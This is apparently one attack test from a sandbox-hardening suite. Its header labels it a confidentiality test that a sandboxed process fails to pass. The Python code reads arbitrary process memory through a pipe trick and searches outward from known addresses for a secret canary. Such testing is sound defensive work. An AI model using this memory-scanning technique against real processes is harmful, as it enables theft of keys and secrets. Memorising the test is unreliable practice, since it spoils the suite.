"""
number = 27
family = "confidentiality"
what = "scan its own memory for a canary that the trusted side holds"
stopped_by = ["the zygote is exec'd and never sees the keys"]
verdicts = {full = ["passed"], contained = ["passed"], limited = ["passed"]}
"""

import ctypes
import os
import re
import sys
import time

STEP = 1 << 20
REACH = 384 << 20
SECONDS = 1.2  # of CPU time, below the limit


class Probe:
    """Read memory through a pipe: an address that is not mapped gives an error instead of a crash."""

    def __init__(self) -> None:
        self.reading, self.writing = os.pipe()
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
        self.libc.write.restype = ctypes.c_ssize_t

    def read(self, address: int, length: int) -> bytes:
        taken = self.libc.write(self.writing, address, length)
        return os.read(self.reading, taken) if taken > 0 else b""


def attack(targets: dict) -> str:
    hint = targets["canary_hint"]
    pattern = re.compile(re.escape(hint.encode()) + rb"[0-9A-Za-z_-]{34}")
    libc = ctypes.CDLL(None)
    local = ctypes.c_int(0)
    anchors = {
        id(hint), id(sys), id(object()), ctypes.addressof(local), id(None), id("x" * (1 << 21)),
        ctypes.cast(libc.read, ctypes.c_void_p).value or 0,
        ctypes.cast(libc.environ, ctypes.c_void_p).value or 0,
    }  # fmt: skip
    probe = Probe()
    seen: set[int] = set()
    scanned = 0
    for distance in range(0, REACH, STEP):
        for anchor in anchors:
            for start in {(anchor & -STEP) + distance, (anchor & -STEP) - distance}:
                if start in seen or start <= 0:
                    continue
                seen.add(start)
                tail = b""
                for address in range(start, start + STEP, 1 << 16):
                    piece = probe.read(address, 1 << 16)
                    scanned += len(piece)
                    if pattern.search(tail + piece):
                        return f"succeeded: found after {scanned >> 20} MB"
                    tail = piece[-40:]
                if time.process_time() > SECONDS + START:
                    return f"stopped: not in the {scanned >> 20} MB nearest to what is known"
    return f"stopped: not in {scanned >> 20} MB"


START = time.process_time()
